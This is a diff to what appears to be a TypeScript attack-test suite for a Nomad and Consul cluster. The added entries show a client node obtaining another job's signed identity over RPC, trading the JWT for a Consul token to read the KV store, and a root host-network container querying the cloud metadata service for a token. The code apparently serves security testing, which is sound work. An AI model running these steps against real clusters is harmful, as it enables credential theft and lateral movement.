@@ -1,9 +1,10 @@
 import { randomUUID } from 'node:crypto';
 import { waitFor } from '../commands.ts';
 import type { Remainder } from './attack.ts';
+import { askForToken, jobOf } from './job.ts';
 import { joinConsul } from './network.ts';
 import { bytes } from './rpc.ts';
-import { addressOf, asOperator, http, rpc, say, type World } from './world.ts';
+import { addressOf, asOperator, http, rpc, runJob, say, type World } from './world.ts';
 
 const victim = `job "victim" {
   datacenters = ["*"]
@@ -11,7 +12,8 @@ const victim = `job "victim" {
     task "t" {
       driver = "exec"
       identity {
-        env = true
+        name = "consul_default"
+        aud  = ["consul.io"]
       }
       env {
         PASSWORD = "of-the-victim"
@@ -100,15 +102,29 @@ export const remains: readonly Remainder[] = [
   },
   {
     position: 'client',
-    what: 'be given the identity of a job of another node, and so what that job may do',
-    attempt: async w =>
-      overRpc(w, 'Alloc.SignIdentities', {
-        AuthToken: await ownNode(w),
-        Identities: [
-          { AllocID: await victimAllocation(w), IdentityName: 'default', WorkloadIdentifier: 't', WorkloadType: 0 },
-        ],
-      }),
-    gain: /^answered.*JWT/s,
+    what: 'be given the identity of a job of another node, and read the KV store with it',
+    async attempt(w) {
+      const [AllocID, AuthToken] = [await victimAllocation(w), await ownNode(w)];
+      const identity = { AllocID, IdentityName: 'consul_default', WorkloadIdentifier: 't', WorkloadType: 0 };
+      const signed = await overRpc(w, 'Alloc.SignIdentities', { AuthToken, Identities: [identity] });
+      const login = JSON.stringify({ AuthMethod: 'nomad-workloads', BearerToken: /"JWT":"([^"]+)"/.exec(signed)?.[1] });
+      const known = await http(w.client, 'http://127.0.0.1:8500/v1/acl/login', ['-X', 'POST', '-d', login]);
+      const token = /"SecretID":"([^"]+)"/.exec(known)?.[1];
+      if (token === undefined) return `${signed} ${known}`;
+      return `the KV store: ${await http(w.client, 'http://127.0.0.1:8500/v1/kv/attack?raw', ['-H', `X-Consul-Token: ${token}`])}`;
+    },
+    gain: /^the KV store: x\s+HTTP 200/,
+  },
+  {
+    position: 'job',
+    what: "ask the metadata service from a container on the host's network, as root",
+    attempt: w =>
+      runJob(
+        w.server,
+        asOperator(w),
+        jobOf({ driver: 'docker', config: 'network_mode = "host"', script: askForToken }),
+      ),
+    gain: /^HTTP\/1\.\d 200/,
   },
   {
     position: 'client',
